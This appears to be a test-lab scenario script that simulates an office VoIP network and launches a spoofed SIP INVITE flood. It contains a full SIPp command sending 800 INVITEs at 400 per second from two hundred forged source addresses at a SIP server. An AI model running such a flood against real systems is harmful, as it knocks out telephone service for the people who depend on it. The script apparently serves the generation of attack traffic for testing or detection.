# A fast flood of INVITEs under two hundred addresses that nobody has, for numbers that do not exist.
open_office
add_attacker spoofer 203.0.113.66
spoof spoofer 198.51.100.{30..229}
start_office_capture
keep_alive 9
office_day 110 60
at 25 attack A1 invite_flood spoofer 5060 "SIPp sends 800 INVITEs, 400 a second, under two hundred invented addresses." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$here/sipp/flood-spoofed.xml" -nostdin -default_behaviors none \
    -t ui -max_socket 900 -ip_field 0 -inf "$scratch/sources.csv" -cid_str "%u-%p" -i 203.0.113.66 -mi 203.0.113.66 -p 5060 \
    -s 1077 -r 400 -m 800 192.0.2.1:5060
play
wait_for A1
close_office
